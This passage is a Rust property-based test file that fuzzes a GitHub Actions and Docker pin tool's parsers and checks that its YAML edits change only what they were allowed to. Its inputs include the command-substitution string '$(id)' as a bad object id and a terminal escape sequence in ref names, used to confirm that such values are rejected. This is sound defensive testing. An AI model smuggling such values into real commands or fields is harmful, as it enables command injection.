//! Property-based tests (proptest) of the parsers and of the edit check.
//!
//! 1. No entry point that reads untrusted text panics: the Dockerfile scanner,
//!    the YAML parser and scalar decoding, pkt-line decoding and the two ref
//!    listing parsers, image references and `uses:` values. Inputs are
//!    arbitrary bytes (read as lossy UTF-8 where the entry point takes text)
//!    and strings built from each grammar's significant tokens.
//! 2. Verification never accepts an edit that changed more than it allowed:
//!    a `uses:` value replaced through `apply_edits` and accepted by
//!    `check_changes` must have become exactly the new value with everything
//!    else as it was, and any random edit accepted with nothing allowed must
//!    leave the data (with its scalar types) as it was. A Dockerfile edit
//!    accepted with nothing allowed must leave the text as it was, and
//!    pinning any of its images must verify.
//!
//! The same entry points are fuzzed without bounds by the `cargo fuzz`
//! targets in `fuzz/` (see the README's Fuzzing section).

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests stop where a step fails

use std::collections::HashMap;
use std::ops::Range;

use proptest::prelude::*;
use proptest::sample::{Index, select};
use tree_sitter::Node;
use yaml_rust2::parser::{Event, EventReceiver, Parser, Tag};
use yaml_rust2::scanner::TScalarStyle;

use hardpin::diagnostics::{AllowedChanges, Edit};
use hardpin::dockerfile;
use hardpin::edit::apply_edits;
use hardpin::image::ImageRef;
use hardpin::refs::{
    UsesTarget, classify, is_full_sha, is_object_id, is_safe_listed_ref, validate_ref,
};
use hardpin::resolve::github::{parse_advertisement, parse_ls_refs};
use hardpin::resolve::pktline;
use hardpin::verify::check_dockerfile;
use hardpin::yaml::data::check_changes;
use hardpin::yaml::route::{content, entries, items, string_map};
use hardpin::yaml::{self, ScalarStyle, Seg, YamlDoc};

const CASES: u32 = 256;

/// `CASES` per property; `PROPTEST_CASES=100000` searches longer.
fn config() -> ProptestConfig {
    let cases = std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|c| c.parse().ok())
        .unwrap_or(CASES);
    ProptestConfig {
        cases,
        // Shrinking a failure is worth a little time, not minutes.
        max_shrink_iters: 2048,
        // Failures are reported with their input; no regressions file.
        failure_persistence: None,
        ..ProptestConfig::default()
    }
}

// ---------------------------------------------------------------------------
// Inputs

/// Up to `max` tokens of `alphabet`, concatenated.
fn soup(alphabet: &'static [&'static str], max: usize) -> impl Strategy<Value = String> {
    prop::collection::vec(select(alphabet), 0..max).prop_map(|t| t.concat())
}

fn bytes(max: usize) -> impl Strategy<Value = Vec<u8>> {
    prop::collection::vec(any::<u8>(), 0..max)
}

/// Arbitrary bytes as lossy UTF-8, or a soup of `alphabet`.
fn text(alphabet: &'static [&'static str]) -> impl Strategy<Value = String> {
    prop_oneof![
        bytes(256).prop_map(|b| String::from_utf8_lossy(&b).into_owned()),
        soup(alphabet, 48),
        "\\PC{0,64}",
    ]
}

#[rustfmt::skip]
const DOCKERFILE: &[&str] = &[
    "\\", "\\", "`", "\n", "\n", "\r\n", "\r", " ", " ", "\t", "#", "# escape=`\n",
    "# escape=\\\n", "# syntax=docker/dockerfile:1\n", "#escape=x\n", "\u{feff}", "FROM ",
    "from ", "RUN ", "COPY ", "ADD ", "ARG ", "AS ", "--from=", "--platform=$P ", "<<EOF",
    "<<-EOF", "<<'EOF'", "<<\"EOF\"", "<<", "EOF", "\tEOF", "node:20", "@sha256:", "alpine",
    ":", "@", "-", "=", "$", "{", "}", "[", "\"", "'", "é", "\u{2028}", "x",
];

#[rustfmt::skip]
const YAML: &[&str] = &[
    "\n", "\n", "\r\n", "\r", " ", "  ", "    ", "\t", "#", " # c", ":", ": ", "- ", "-", "?",
    "? ", "[", "]", "{", "}", ",", "'", "''", "\"", "\\", "\\n", "\\u00e9", "\\x4",
    "\\U0001F600", "\\\n", "|", "|-", "|+", "|2", ">", ">-", "&a ", "*a", "&b ", "*b", "!!str ",
    "!t ", "<<: ", "---\n", "...\n", "%YAML 1.2\n", "uses", "jobs", "steps", "a/b@v1", "x", "1",
    "true", "~", "é", "\u{feff}", "\u{85}", "\0",
];

#[rustfmt::skip]
const IMAGE: &[&str] = &[
    "docker.io", "index.docker.io", "localhost", "ghcr.io", "[::1]", ":5000", "/", "/", ":",
    ":", "@", "sha256:", "sha256", "0123456789abcdef0123456789abcdef", "ABCDEF", "library",
    "node", "Node", "20-alpine", "latest", ".", "_", "__", "-", "--", "é", "1", "a", " ",
];

#[rustfmt::skip]
const USES: &[&str] = &[
    "./", "../", ".", "$", "${{", " matrix.v ", "}}", "docker://", "alpine:3", "/", "/", "@",
    "@", "owner", "repo", "-", "_", ".lock", "..", "v1", "v1.2.3", "refs/tags/", "+", " ", "\n",
    "\t", "%2e", "é", "0123456789abcdef0123456789abcdef01234567",
];

#[rustfmt::skip]
const REF_LINE: &[&str] = &[
    "0123456789abcdef0123456789abcdef01234567", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", " ", " ",
    "refs/heads/main", "refs/tags/v1", "refs/tags/v1.2.3", "HEAD", "^{}", " peeled:", "peeled:",
    "\n", "\0", "# service=git-upload-pack\n", "ERR ", "symref=HEAD:refs/heads/main", "é", "x",
];

const CONTROL: &[&str] = &["0000", "0001", "0002", "0003", "0004"];

/// Object ids a server might send instead of 40 lower-case hex digits.
#[rustfmt::skip]
const BAD_OID: &[&str] = &[
    "0123456789ABCDEF0123456789ABCDEF01234567", "0123456789abcdef0123456789abcdef0123456",
    "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", "main", "$(id)", "",
];

#[rustfmt::skip]
const REF_NAME: &[&str] = &[
    "refs/", "heads/", "tags/", "main", "main", "v1", ".2", "-rc", "pkg@", "@{", "@", "..", ".lock", "/",
    "^{}", "\u{1b}[31m", "\n", " ", "\t", "~", ":", "é", "x",
];

/// A v2 `ls-refs` answer or a v0 advertisement that is well framed, with
/// object ids and ref names that may not be.
fn ref_listing() -> impl Strategy<Value = Vec<u8>> {
    let oid = prop_oneof![
        12 => "[0-9a-f]{40}",
        1 => select(BAD_OID).prop_map(str::to_string),
    ];
    let prefix = select(
        &[
            "refs/tags/",
            "refs/tags/",
            "refs/heads/",
            "refs/pull/1/",
            "HEAD",
            "",
        ][..],
    );
    let rest = prop_oneof![
        3 => "[a-z0-9][a-z0-9._/@-]{0,8}",
        1 => soup(REF_NAME, 3),
    ];
    let name = (prefix, rest).prop_map(|(p, n)| format!("{p}{n}"));
    let line = (oid.clone(), name, prop::option::of(oid), any::<bool>());
    (any::<bool>(), prop::collection::vec(line, 0..6)).prop_map(|(v2, lines)| {
        let mut b = Vec::new();
        if !v2 {
            pktline::push_line(&mut b, "# service=git-upload-pack\n");
            b.extend_from_slice(pktline::FLUSH);
        }
        for (oid, name, peeled, caps) in lines {
            let line = match (v2, peeled) {
                (true, Some(p)) => format!("{oid} {name} peeled:{p}\n"),
                (false, Some(p)) => format!("{p} {name}^{{}}\n"),
                (_, None) if caps && !v2 => format!("{oid} {name}\0symref=HEAD:refs/heads/main\n"),
                (_, None) => format!("{oid} {name}\n"),
            };
            pktline::push_line(&mut b, &line);
        }
        b.extend_from_slice(pktline::FLUSH);
        b
    })
}

/// A pkt-line stream: well-formed data lines mixed with control packets,
/// wrong lengths and garbage.
fn pkt_stream() -> impl Strategy<Value = Vec<u8>> {
    let packet = prop_oneof![
        4 => soup(REF_LINE, 8).prop_map(|l| {
            let mut b = Vec::new();
            pktline::push_line(&mut b, &l);
            b
        }),
        2 => select(CONTROL).prop_map(|p| p.as_bytes().to_vec()),
        1 => (0u32..0x10000, soup(REF_LINE, 4)).prop_map(|(n, l)| format!("{n:04x}{l}").into_bytes()),
        1 => bytes(8),
    ];
    prop::collection::vec(packet, 0..12).prop_map(|p| p.concat())
}

// ---------------------------------------------------------------------------
// 1. No panics

fn dockerfile_never_panics(text: String) {
    let Ok(d) = dockerfile::parse(text) else {
        return;
    };
    for ins in &d.instructions {
        assert!(!ins.words.is_empty(), "an instruction without a keyword");
        assert_eq!(ins.keyword, ins.words[0].text.to_ascii_uppercase());
        for w in &ins.words {
            assert_eq!(&d.text[w.span.clone()], w.text, "a word's span is off");
            assert!(!w.text.is_empty() && !w.text.contains(char::is_whitespace));
        }
        for w in ins.args() {
            let image = w.text.strip_prefix("--from=").unwrap_or(&w.text);
            let _ = ImageRef::parse(image);
        }
    }
    check_dockerfile(&d, &d, &AllowedChanges::default()).expect("a Dockerfile differs from itself");
}

/// Every node of the tree, in document order.
fn all_nodes(doc: &YamlDoc) -> Vec<Node<'_>> {
    let mut out = Vec::new();
    let mut cursor = doc.root().walk();
    loop {
        out.push(cursor.node());
        if cursor.goto_first_child() {
            continue;
        }
        loop {
            if cursor.goto_next_sibling() {
                break;
            }
            if !cursor.goto_parent() {
                return out;
            }
        }
    }
}

/// Decode every scalar and walk every route helper over `doc`.
fn exercise_yaml(doc: &YamlDoc) {
    for node in all_nodes(doc) {
        if let Some(s) = yaml::scalar(doc, node) {
            let _ = s.requote(&s.value);
        }
        let _ = content(node);
        let _ = items(node);
        let _ = entries(doc, node);
        let _ = yaml::in_flow(node);
        let _ = yaml::line_col(&doc.text, node.start_byte());
    }
    for p in yaml::pairs(doc) {
        let _ = p.key_name();
        let _ = yaml::route::path_string(&p.path);
        let _ = yaml::scalar(doc, p.key);
        if let Some(v) = p.value {
            let _ = yaml::scalar(doc, v);
            let _ = doc.comment_for(v);
            let _ = string_map(doc, Some(v));
        }
    }
}

fn yaml_never_panics(text: String, other: String) {
    let Ok(doc) = YamlDoc::parse(text) else {
        return;
    };
    exercise_yaml(&doc);
    let none = AllowedChanges::default();
    if let Err(e) = check_changes(&doc, &doc, &none) {
        panic!("{:?} differs from itself: {e}", doc.text);
    }
    if let Ok(other) = YamlDoc::parse(other) {
        exercise_yaml(&other);
        let _ = check_changes(&doc, &other, &none);
        let _ = check_changes(&other, &doc, &none);
    }
}

fn pktline_never_panics(body: &[u8]) {
    if let Ok(packets) = pktline::decode(body) {
        // Every data packet lies within the body.
        let data: usize = packets
            .iter()
            .map(|p| match p {
                pktline::Packet::Data(d) => d.len() + 4,
                _ => 4,
            })
            .sum();
        assert_eq!(data, body.len());
    }
    for listing in [parse_ls_refs(body).ok(), parse_advertisement(body).ok()]
        .into_iter()
        .flatten()
    {
        // What a server sends ends up in `uses:` and in its comment: only
        // commit ids and safe names are kept.
        for (name, commit) in listing.tags.iter().chain(&listing.heads) {
            assert!(is_object_id(commit), "{name:?} -> {commit:?}");
            assert!(is_safe_listed_ref(name), "{name:?}");
            let pin = listing.pin(name).expect("a listed ref pins");
            assert!(is_object_id(&pin.commit) && is_safe_listed_ref(&pin.comment));
        }
    }
}

fn image_ref_never_panics(text: &str) {
    let Ok(r) = ImageRef::parse(text) else {
        return;
    };
    // The parts put back together are the text as written.
    assert_eq!(r.to_string(), text);
    let _ = (r.key(), r.tag_or_latest());
    let digest = format!("sha256:{}", "0a".repeat(32));
    let pinned = ImageRef::parse(&r.pinned(&digest)).expect("a pinned reference parses");
    assert_eq!(
        (&pinned.name, &pinned.tag, pinned.digest.as_deref()),
        (&r.name, &r.tag, Some(digest.as_str()))
    );
}

fn uses_never_panics(text: &str) {
    let _ = validate_ref(text);
    let _ = is_full_sha(text);
    let (Ok(UsesTarget::Remote(a)) | Ok(UsesTarget::Pinned(a))) = classify(text) else {
        return;
    };
    // What was accepted is safe to put in a URL and a comment.
    assert!(validate_ref(&a.git_ref).is_ok());
    assert!(
        !a.to_string()
            .contains(|c: char| c.is_whitespace() || c.is_control())
    );
    let again = classify(&a.to_string()).expect("a parsed reference parses again");
    assert!(matches!(again, UsesTarget::Remote(ref b) | UsesTarget::Pinned(ref b) if *b == a));
    assert_eq!(
        matches!(again, UsesTarget::Pinned(_)),
        is_full_sha(&a.git_ref)
    );
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn dockerfile_scanner_never_panics(t in text(DOCKERFILE)) {
        dockerfile_never_panics(t);
    }

    #[test]
    fn yaml_parse_and_scalars_never_panic(a in text(YAML), b in text(YAML)) {
        yaml_never_panics(a, b);
    }

    #[test]
    fn pktline_and_ref_listings_never_panic(
        body in prop_oneof![bytes(256), pkt_stream(), ref_listing()],
    ) {
        pktline_never_panics(&body);
    }

    #[test]
    fn image_refs_never_panic(t in text(IMAGE)) {
        image_ref_never_panics(&t);
    }

    #[test]
    fn uses_values_never_panic(t in text(USES)) {
        uses_never_panics(&t);
    }
}

#[test]
fn lone_escape_dockerfile_does_not_panic() {
    for src in [
        "\\\n",
        "\\",
        "`",
        "# escape=`\n`\n",
        "FROM a\n\\\n",
        " \\ \n\\\r\n",
    ] {
        dockerfile_never_panics(src.to_string());
    }
}

// ---------------------------------------------------------------------------
// 2. Edits and verification

/// Seed workflows: block and flow style, comments, anchors and aliases, every
/// quote style, CRLF and a BOM, several documents, and (seed 4) a file that
/// yaml-rust2 refuses for the tab after `runs-on:`, where `check_changes` has
/// only the CST to go on.
const SEEDS: &[&str] = &[
    "name: CI # the build\non:\n  push:\n    branches: [main, 'release/*']\njobs:\n  build:\n    runs-on: ubuntu-latest\n    timeout-minutes: \"10\"\n    steps:\n      - uses: actions/checkout@v4 # v4\n      - name: \"Set up\"\n        uses: 'actions/setup-node@v4'\n        with:\n          node-version: \"20\"\n          cache: npm\n      - uses: \"docker://alpine:3.19\"\n      - run: |\n          echo hi\n          echo \"a: b\"\n      - uses: github/codeql-action/init@v3\n        with: {languages: 'go', debug: \"true\"}\n",
    "jobs: {a: {runs-on: ubuntu-latest, steps: [{uses: actions/checkout@v4}, {uses: \"o/r/p@v1\", with: {x: 1, y: ~}}, {uses: 'q/s@main', if: \"false\"}]}}\n",
    "x-step: &co\n  uses: actions/checkout@v4\njobs:\n  a:\n    steps:\n      - *co\n      - uses: &u actions/cache@v3\n      - uses: *u\n      - {uses: \"a/b@v1\", name: &n nm}\n      - name: *n\n        uses: c/d@v2 # comment\n",
    "\u{feff}on: push\r\njobs:\r\n  a:\r\n    steps:\r\n      - uses: actions/checkout@v4 # v4\r\n      - uses: \"o/r@v1\"\r\n        with:\r\n          k: 'v'\r\n      - run: >-\r\n          folded\r\n          text\r\n",
    "jobs:\n  a:\n    runs-on:\tubuntu-latest\n    strategy:\n      matrix:\n        x: [\n          1,\n        ]\n        include: [{k: \"true\"}, {k: \"2\"}]\n    steps:\n      - uses: a/b@v1\n      - uses: \"c/d@v2\"\n        with: {k: \"on\", n: 1, e: '', z: \"0x10\"}\n      - run: |\n          echo 1\n      - uses: e/f@v3\n",
    "on: workflow_call\njobs:\n  call:\n    uses: octo/wf/.github/workflows/ci.yml@main\n    secrets: inherit\n---\n# second document\nsteps:\n  - uses: a/b@v1\n  - uses: >-\n      x/y@v2\n",
];

/// A data model of YAML independent of `check_changes`' own: aliases are
/// resolved, mappings are compared regardless of key order (unless a key
/// repeats), `{a, b}` has keys with null values, and a block scalar keeps its
/// style and chomping.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
enum V {
    Null,
    Scalar(Ty, String),
    Seq(Vec<V>),
    Map(Vec<(String, V)>),
    /// An alias to an anchor not (yet) defined.
    Alias(String),
    Other(String),
}

#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
enum Ty {
    Str,
    Bool,
    Int,
    Float,
    Tagged(String),
    Block(String),
}

/// How [`Model`] reads scalars.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Reading {
    /// As decoded text (what `AllowedChanges` speaks of).
    Text,
    /// Text, plus each scalar's type: tags, and plain scalars resolved by the
    /// YAML 1.2 core schema (`1` is not `'1'`).
    Typed,
}

struct Model<'d> {
    doc: &'d YamlDoc,
    reading: Reading,
    anchors: HashMap<String, V>,
}

fn named_children(node: Node<'_>) -> Vec<Node<'_>> {
    let mut cursor = node.walk();
    node.named_children(&mut cursor)
        .filter(|c| c.kind() != "comment")
        .collect()
}

impl Model<'_> {
    fn documents(doc: &YamlDoc, reading: Reading) -> Vec<V> {
        let mut m = Model {
            doc,
            reading,
            anchors: HashMap::new(),
        };
        named_children(doc.root())
            .into_iter()
            .filter(|d| d.kind() == "document")
            .map(|d| {
                m.anchors.clear();
                let v = m.node(d);
                normalize(v)
            })
            .collect()
    }

    fn key(&mut self, key: Option<Node<'_>>) -> String {
        key.map_or_else(String::new, |k| {
            yaml::scalar(self.doc, k).map_or_else(|| self.doc.text_of(k).to_string(), |s| s.value)
        })
    }

    fn pair(&mut self, p: Node<'_>) -> (String, V) {
        let key = self.key(p.child_by_field_name("key"));
        let value = p
            .child_by_field_name("value")
            .map_or(V::Null, |v| self.node(v));
        (key, value)
    }

    fn node(&mut self, node: Node<'_>) -> V {
        let kids = named_children(node);
        match node.kind() {
            "block_mapping" | "flow_mapping" => V::Map(
                kids.into_iter()
                    .filter_map(|c| match c.kind() {
                        "block_mapping_pair" | "flow_pair" => Some(self.pair(c)),
                        // `{a, b}`: keys with null values.
                        "flow_node" => Some((self.key(Some(c)), V::Null)),
                        _ => None,
                    })
                    .collect(),
            ),
            "block_sequence" | "flow_sequence" => V::Seq(
                kids.into_iter()
                    .map(|c| match c.kind() {
                        "block_sequence_item" => {
                            named_children(c).first().map_or(V::Null, |n| self.node(*n))
                        }
                        // `[a: 1]`: a single-pair mapping.
                        "flow_pair" => V::Map(vec![self.pair(c)]),
                        _ => self.node(c),
                    })
                    .collect(),
            ),
            "alias" => {
                let name = self.doc.text_of(node).trim_start_matches('*').to_string();
                self.anchors.get(&name).cloned().unwrap_or(V::Alias(name))
            }
            "plain_scalar" | "single_quote_scalar" | "double_quote_scalar" | "block_scalar" => {
                self.scalar(node, None)
            }
            "document" | "block_node" | "flow_node" => {
                let anchor = kids.iter().find(|c| c.kind() == "anchor");
                let tag = kids.iter().find(|c| c.kind() == "tag");
                let body: Vec<Node<'_>> = kids
                    .iter()
                    .copied()
                    .filter(|c| {
                        !matches!(c.kind(), "anchor" | "tag") && !c.kind().contains("directive")
                    })
                    .collect();
                let tag = tag.map(|t| self.doc.text_of(*t).to_string());
                let v = match body.as_slice() {
                    [] => match tag {
                        Some(t) if self.reading == Reading::Typed => {
                            V::Scalar(Ty::Tagged(t), String::new())
                        }
                        _ => V::Null,
                    },
                    [one] if one.kind().ends_with("scalar") => self.scalar(*one, tag),
                    [one] => self.node(*one),
                    many => V::Seq(many.iter().map(|n| self.node(*n)).collect()),
                };
                if let Some(a) = anchor {
                    let name = self.doc.text_of(*a).trim_start_matches('&').to_string();
                    self.anchors.insert(name, v.clone());
                }
                v
            }
            other => V::Other(format!("{other}: {}", self.doc.text_of(node))),
        }
    }

    fn scalar(&mut self, node: Node<'_>, tag: Option<String>) -> V {
        let Some(s) = yaml::scalar(self.doc, node) else {
            return V::Other(self.doc.text_of(node).to_string());
        };
        if s.style == ScalarStyle::Block {
            let header: String = self
                .doc
                .text_of(node)
                .chars()
                .take_while(|c| "|>+-0123456789".contains(*c))
                .filter(|c| !c.is_ascii_digit())
                .collect();
            // One line folds to itself: `>` and `|` differ only with more.
            let header = if s.value.trim_end_matches('\n').contains('\n') {
                header
            } else {
                header.replace('>', "|")
            };
            return V::Scalar(Ty::Block(header), s.value);
        }
        if self.reading != Reading::Typed {
            return V::Scalar(Ty::Str, s.value);
        }
        match tag.as_deref() {
            Some("!!str" | "!" | "!<tag:yaml.org,2002:str>") => return V::Scalar(Ty::Str, s.value),
            Some(t) => return V::Scalar(Ty::Tagged(t.to_string()), s.value),
            None => {}
        }
        if s.style != ScalarStyle::Plain {
            return V::Scalar(Ty::Str, s.value);
        }
        core_schema(s.value)
    }
}

/// A plain scalar resolved by the YAML 1.2 core schema.
fn core_schema(v: String) -> V {
    let digits = |s: &str, radix: u32| !s.is_empty() && s.chars().all(|c| c.is_digit(radix));
    let unsigned = v.strip_prefix(['-', '+']).unwrap_or(&v);
    let float = {
        let (mant, exp) = unsigned.split_once(['e', 'E']).unwrap_or((unsigned, "0"));
        let exp = exp.strip_prefix(['-', '+']).unwrap_or(exp);
        let (int, frac) = mant.split_once('.').unwrap_or((mant, ""));
        (digits(int, 10) || (int.is_empty() && digits(frac, 10)))
            && (frac.is_empty() || digits(frac, 10))
            && digits(exp, 10)
    };
    match v.as_str() {
        "" | "~" | "null" | "Null" | "NULL" => V::Null,
        "true" | "True" | "TRUE" | "false" | "False" | "FALSE" => {
            V::Scalar(Ty::Bool, v.to_ascii_lowercase())
        }
        _ if digits(unsigned, 10)
            || v.strip_prefix("0x").is_some_and(|h| digits(h, 16))
            || v.strip_prefix("0o").is_some_and(|o| digits(o, 8)) =>
        {
            V::Scalar(Ty::Int, v)
        }
        ".nan" | ".NaN" | ".NAN" => V::Scalar(Ty::Float, v),
        _ if float || matches!(unsigned, ".inf" | ".Inf" | ".INF") => V::Scalar(Ty::Float, v),
        _ => V::Scalar(Ty::Str, v),
    }
}

/// Sort mapping entries, unless a key repeats (then order may matter).
fn normalize(v: V) -> V {
    match v {
        V::Seq(items) => V::Seq(items.into_iter().map(normalize).collect()),
        V::Map(entries) => {
            let mut entries: Vec<(String, V)> = entries
                .into_iter()
                .map(|(k, v)| (k, normalize(v)))
                .collect();
            let mut keys: Vec<&String> = entries.iter().map(|(k, _)| k).collect();
            keys.sort();
            keys.dedup();
            if keys.len() == entries.len() {
                entries.sort();
            }
            V::Map(entries)
        }
        other => other,
    }
}

/// yaml-rust2's reading of a file, from its events: aliases resolved by
/// anchor, mappings sorted by key, and in `typed` mode plain scalars resolved
/// by the core schema. `None` when yaml-rust2 refuses the file.
fn loaded(text: &str, typed: bool) -> Option<Vec<V>> {
    let mut sink = Events {
        typed,
        ..Events::default()
    };
    Parser::new_from_str(text.strip_prefix('\u{feff}').unwrap_or(text))
        .load(&mut sink, true)
        .ok()?;
    Some(sink.docs.into_iter().map(normalize).collect())
}

#[derive(Default)]
struct Events {
    typed: bool,
    docs: Vec<V>,
    doc_start: usize,
    /// Open collections with their anchor id; a mapping's pending key.
    stack: Vec<(Open, usize)>,
    anchors: HashMap<usize, V>,
}

enum Open {
    Seq(Vec<V>),
    Map(Vec<(String, V)>, Option<String>),
}

impl Events {
    fn insert(&mut self, v: V, anchor: usize) {
        if anchor > 0 {
            self.anchors.insert(anchor, v.clone());
        }
        match self.stack.last_mut() {
            None => self.docs.push(v),
            Some((Open::Seq(items), _)) => items.push(v),
            Some((Open::Map(entries, key), _)) => match key.take() {
                None => {
                    *key = Some(match v {
                        V::Scalar(_, s) => s,
                        V::Null => String::new(),
                        other => format!("{other:?}"),
                    })
                }
                Some(k) => entries.push((k, v)),
            },
        }
    }

    fn scalar(&self, value: String, style: TScalarStyle, tag: Option<Tag>) -> V {
        match tag {
            Some(t) if t.suffix == "str" || (t.handle == "!" && t.suffix.is_empty()) => {
                return V::Scalar(Ty::Str, value);
            }
            Some(t) if self.typed => {
                return V::Scalar(Ty::Tagged(format!("{}{}", t.handle, t.suffix)), value);
            }
            _ => {}
        }
        match style {
            TScalarStyle::Plain if self.typed => core_schema(value),
            _ => V::Scalar(Ty::Str, value),
        }
    }
}

impl EventReceiver for Events {
    fn on_event(&mut self, ev: Event) {
        match ev {
            Event::DocumentStart => {
                self.doc_start = self.docs.len();
                self.anchors.clear();
            }
            Event::DocumentEnd if self.docs.len() == self.doc_start => self.docs.push(V::Null),
            Event::Alias(id) => {
                let v = self
                    .anchors
                    .get(&id)
                    .cloned()
                    .unwrap_or(V::Alias(id.to_string()));
                self.insert(v, 0);
            }
            Event::Scalar(value, style, anchor, tag) => {
                let v = self.scalar(value, style, tag);
                self.insert(v, anchor);
            }
            Event::SequenceStart(anchor, _) => self.stack.push((Open::Seq(Vec::new()), anchor)),
            Event::MappingStart(anchor, _) => {
                self.stack.push((Open::Map(Vec::new(), None), anchor))
            }
            Event::SequenceEnd | Event::MappingEnd => match self.stack.pop() {
                Some((Open::Seq(items), anchor)) => self.insert(V::Seq(items), anchor),
                Some((Open::Map(entries, _), anchor)) => self.insert(V::Map(entries), anchor),
                None => {}
            },
            _ => {}
        }
    }
}

/// What `pairs()` sees: every pair's path and value, as a sorted list.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
enum PairValue {
    Scalar(String),
    Alias(String),
    Collection(&'static str),
    Null,
}

fn pair_data(doc: &YamlDoc) -> Vec<(Vec<Seg>, PairValue)> {
    let mut out: Vec<_> = yaml::pairs(doc)
        .into_iter()
        .map(|p| {
            let value = match p.value {
                None => PairValue::Null,
                Some(v) => match (yaml::scalar(doc, v), content(v)) {
                    (Some(s), _) => PairValue::Scalar(s.value),
                    (None, Some(c)) if c.kind().ends_with("mapping") => {
                        PairValue::Collection("map")
                    }
                    (None, Some(c)) if c.kind().ends_with("sequence") => {
                        PairValue::Collection("seq")
                    }
                    (None, Some(c)) => PairValue::Alias(doc.text_of(c).to_string()),
                    (None, None) => {
                        let alias = named_children(v).into_iter().find(|c| c.kind() == "alias");
                        alias.map_or(PairValue::Null, |a| {
                            PairValue::Alias(doc.text_of(a).to_string())
                        })
                    }
                },
            };
            (p.path, value)
        })
        .collect();
    out.sort();
    out
}

/// The `uses:` scalars of a document (not block scalars, which hardpin edits
/// differently): their node range, style, value and path.
fn uses_scalars(doc: &YamlDoc) -> Vec<(Range<usize>, ScalarStyle, String, Vec<Seg>)> {
    yaml::pairs(doc)
        .into_iter()
        .filter(|p| p.key_name() == "uses")
        .filter_map(|p| {
            let s = yaml::scalar(doc, p.value?)?;
            (s.style != ScalarStyle::Block).then(|| (s.node.byte_range(), s.style, s.value, p.path))
        })
        .collect()
}

/// A replacement for a `uses:` value: the new value written in the old
/// style (what pin-actions does), or raw text written over the scalar.
#[derive(Debug, Clone)]
enum Replacement {
    Requote(String),
    Raw(String),
}

#[rustfmt::skip]
const REPLACEMENT: &[&str] = &[
    "a/b@v2", "#", " #", " # v1", ":", ": ", "\"", "'", "\\", "\n", "\r\n", "\n      ", "\n  ",
    "- ", "uses: ", "run: x", "with:", "{", "}", "[", "]", ",", "&a ", "*a", "*u", "|", ">", "x",
    " ", "é", "\t", "!!str ", "~", "true", "1",
];

fn replacement() -> impl Strategy<Value = Replacement> {
    let sha = "[0-9a-f]{40}";
    let pin = ("[a-z][a-z0-9-]{0,8}", "[a-z][a-z0-9._-]{0,8}", sha)
        .prop_map(|(o, r, s)| format!("{o}/{r}@{s}"));
    prop_oneof![
        2 => pin.clone().prop_map(Replacement::Requote),
        1 => pin.prop_map(Replacement::Raw),
        2 => soup(REPLACEMENT, 8).prop_map(Replacement::Requote),
        2 => soup(REPLACEMENT, 8).prop_map(Replacement::Raw),
        1 => "[ -~\n]{0,24}".prop_map(Replacement::Raw),
    ]
}

/// `new` as a double-quoted scalar (a JSON string is one).
fn json_quoted(new: &str) -> String {
    serde_json::to_string(new).unwrap()
}

fn check_uses_edit(seed: &str, pick: Index, rep: Replacement) -> Result<(), TestCaseError> {
    let before = YamlDoc::parse(seed.to_string()).unwrap();
    let uses = uses_scalars(&before);
    let (range, style, old, path) = uses[pick.index(uses.len())].clone();
    let (text, new) = match rep {
        Replacement::Requote(v) => (yaml::scalar::requote_as(style, &v), v),
        Replacement::Raw(t) => (t.clone(), t),
    };
    let edited = apply_edits(seed, &[Edit::replace(range.clone(), text)]).unwrap();
    let Ok(after) = YamlDoc::parse(edited) else {
        return Ok(());
    };
    let mut allowed = AllowedChanges::default();
    allowed.scalars.insert((old.clone(), new.clone()));
    if check_changes(&before, &after, &allowed).is_err() {
        return Ok(());
    }
    // Accepted: the value at `path` is now `new`, and every other pair is as
    // it was.
    let mut expected = pair_data(&before);
    for (p, v) in &mut expected {
        if *p == path {
            *v = PairValue::Scalar(new.clone());
        }
    }
    expected.sort();
    prop_assert_eq!(
        pair_data(&after),
        expected,
        "accepted {:?} -> {:?}:\n{}",
        old,
        new,
        after.text
    );
    // And the whole data model agrees with the original where the value is
    // replaced by a quoted string that must mean `new`.
    let reference = apply_edits(seed, &[Edit::replace(range, json_quoted(&new))]).unwrap();
    if let Ok(reference) = YamlDoc::parse(reference) {
        prop_assert_eq!(
            Model::documents(&after, Reading::Text),
            Model::documents(&reference, Reading::Text),
            "accepted {:?} -> {:?}:\n{}",
            old,
            new,
            after.text
        );
    }
    Ok(())
}

/// A random edit: around a random node of the tree, or a random byte range.
#[derive(Debug, Clone)]
enum Mutation {
    /// `op` applied to node number `node`.
    Node {
        node: Index,
        op: u8,
        text: String,
    },
    Range {
        a: Index,
        b: Index,
        text: String,
    },
}

fn mutation() -> impl Strategy<Value = Mutation> {
    prop_oneof![
        3 => (any::<Index>(), 0u8..8, soup(YAML, 6)).prop_map(|(node, op, text)| Mutation::Node { node, op, text }),
        1 => (any::<Index>(), any::<Index>(), soup(YAML, 6)).prop_map(|(a, b, text)| Mutation::Range { a, b, text }),
    ]
}

fn floor_char(text: &str, mut i: usize) -> usize {
    while !text.is_char_boundary(i) {
        i -= 1;
    }
    i
}

fn mutate(doc: &YamlDoc, m: &Mutation) -> Edit {
    let text = &doc.text;
    match m {
        Mutation::Node { node, op, text: t } => {
            let nodes = all_nodes(doc);
            let n = nodes[node.index(nodes.len())];
            let r = n.byte_range();
            let raw = doc.text_of(n);
            // Without its first and last character (its quotes, if any).
            let mut chars = raw.chars();
            chars.next();
            chars.next_back();
            let inner = chars.as_str();
            match op {
                // Replace, unquote, quote, quote as text, insert before or
                // after, delete, duplicate.
                0 => Edit::replace(r, t.clone()),
                1 => Edit::replace(r, inner.to_string()),
                2 => Edit::replace(r, format!("\"{inner}\"")),
                3 => Edit::replace(r, format!("'{raw}'")),
                4 => Edit::insert(r.start, t.clone()),
                5 => Edit::insert(r.end, t.clone()),
                6 => Edit::replace(r, String::new()),
                _ => Edit::insert(r.end, format!("{t}{raw}")),
            }
        }
        Mutation::Range { a, b, text: t } => {
            let (a, b) = (a.index(text.len() + 1), b.index(text.len() + 1));
